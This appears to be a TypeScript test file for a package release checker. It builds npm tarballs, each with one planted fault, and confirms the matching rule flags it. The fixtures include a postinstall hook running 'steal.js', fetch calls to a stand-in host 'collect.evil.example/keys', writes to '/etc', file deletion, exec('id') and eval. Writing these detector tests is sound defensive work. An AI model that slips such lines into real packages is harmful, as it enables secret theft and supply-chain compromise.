import { execFile, execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';

/**
 * Each rule of `npm run check:release` against a tarball in which one thing is wrong. The findings come from the program
 * itself, which reads real tarballs.
 */
const repository = {
  name: 'planted',
  version: '1.0.0',
  description: 'A package',
  license: 'MIT',
  author: 'Ada',
  homepage: 'https://github.com/planted/planted#readme',
  bugs: 'https://github.com/planted/planted/issues',
  funding: 'https://github.com/sponsors/planted',
  engines: { node: '>=20' },
  repository: { type: 'git', url: 'git+https://github.com/planted/planted.git' },
  scripts: { build: 'tsc' },
  dependencies: { mustache: '4.2.0' },
  peerDependencies: { '@strapi/strapi': '^5.50.2' },
};

const good: Record<string, string> = {
  'package.json': JSON.stringify(repository),
  'README.md': '# Planted',
  LICENSE: 'MIT',
  'dist/server/index.js': [
    "const fs = require('node:fs');",
    "// Never eval(this), nor new Function('it'). See https://unknown.example/why",
    "module.exports = () => fs.readFileSync('a', 'utf8') + 'eval(1)';",
    "module.exports.address = 'https://api.stripe.com';",
    'const drawing = { open: () => 1 }; drawing.open();',
  ].join('\n'),
};

const manifest = (part: Record<string, unknown>): Record<string, string> => ({
  'package.json': JSON.stringify({ ...repository, ...part }),
});
const code = (text: string): Record<string, string> => ({ 'dist/server/extra.js': text });

/** What is planted, and the rules that must find it. */
const planted: Array<[name: string, files: Record<string, string>, rules: string[]]> = [
  ['nothing', {}, []],
  [
    'a script at installation',
    manifest({ scripts: { build: 'tsc', postinstall: 'node steal.js' } }),
    ['install-scripts', 'same-as-repository'],
  ],
  ['a compiler at installation', { 'binding.gyp': '{}' }, ['install-scripts']],
  ['a floor with a known hole', manifest({ peerDependencies: { '@strapi/strapi': '^5.47.0' } }), ['advisories']],
  ['a range without a floor', manifest({ dependencies: { mustache: '*' } }), ['advisories']],
  [
    'a dependency that the repository does not have',
    manifest({ dependencies: { mustache: '4.2.0', moustache: '1.0.0' } }),
    ['same-as-repository'],
  ],
  ['a dependency that only the repository has', manifest({ dependencies: {} }), ['same-as-repository']],
  ['another owner', manifest({ repository: 'https://github.com/somebody/planted.git' }), ['declared-repository']],
  ['no repository', manifest({ repository: undefined }), ['declared-repository']],
  ['no author', manifest({ author: undefined }), ['description']],
  ['minified code', code(`${'const a=1;'.repeat(300)}\n`), ['minified']],
  ['a text behind escapes', code(`const a = '${'\\x41'.repeat(30)}';`), ['obfuscated']],
  ['a packed text', code(`const a =\n${`'${'QUJD'.repeat(1200)}'`};\n${'\n'.repeat(60)}`), ['obfuscated']],
  ['eval', code("eval('1');"), ['evaluates-text']],
  ['indirect eval', code("(0, eval)('1');"), ['evaluates-text']],
  ['the constructor of functions', code("new Function('return 1')();"), ['evaluates-text']],
  ['the same of the global object', code("globalThis.Function('return 1')();"), ['evaluates-text']],
  ['another host', code("fetch('https://collect.evil.example/keys');"), ['unknown-hosts']],
  ['another host in a template', code('fetch(`https://collect.evil.example/${1}`);'), ['unknown-hosts']],
  ['a write to a file', code("require('fs').writeFileSync('/etc/a', '');"), ['writes-files']],
  [
    'a write by another name',
    code("import { rm as remove } from 'node:fs/promises';\nconst { unlinkSync } = require('fs');\nunlinkSync('a');"),
    ['writes-files'],
  ],
  ['another program', code("require('node:child_process').exec('id');"), ['runs-programs']],
  ['another program, loaded later', code("import('child_process');"), ['runs-programs']],
];

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'invoice-payments-planted-'));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

const packOf = (name: string, files: Record<string, string>): string => {
  const folder = path.join(scratch, name);
  for (const [file, text] of Object.entries({ ...good, ...files })) {
    const target = path.join(folder, 'package', file);
    fs.mkdirSync(path.dirname(target), { recursive: true });
    fs.writeFileSync(target, text);
  }
  const tarball = path.join(scratch, `${name}.tgz`);
  execFileSync('tar', ['-czf', tarball, '-C', folder, 'package']);
  return tarball;
};

/** Runs the program once for all tarballs, and returns the rules with findings for each. */
const rulesFound = async (tarballs: string[]): Promise<{ output: string; found: string[][] }> => {
  const against = path.join(scratch, 'repository.json');
  fs.writeFileSync(against, JSON.stringify(repository));
  const program = path.resolve(__dirname, 'check-release.mjs');
  const args = [program, '--repository', against, ...tarballs.flatMap((file) => ['--tarball', file])];
  const { stdout } = await promisify(execFile)(process.execPath, args).catch((error: { stdout: string }) => error);
  const found = tarballs.map((file) => {
    const [, after = ''] = stdout.split(`${path.basename(file)}: `);
    const lines = after.split('\n').slice(1);
    const end = lines.findIndex((line) => !line.startsWith('  '));
    return [...new Set(lines.slice(0, end).map((line) => line.trim().split(':')[0]))].sort();
  });
  return { output: stdout, found };
};

test('each rule finds what is planted, and nothing else', async () => {
  const tarballs = planted.map(([, files], index) => packOf(`planted-${index}-`, files));
  const { found } = await rulesFound(tarballs);
  expect(planted.map(([name], index) => [name, found[index]])).toEqual(planted.map(([name, , rules]) => [name, rules]));
}, 60_000);

test('a package without findings passes', async () => {
  const { output } = await rulesFound([packOf('clean', {})]);
  expect(output).toMatch(/ 0 findings\n$/);
}, 60_000);
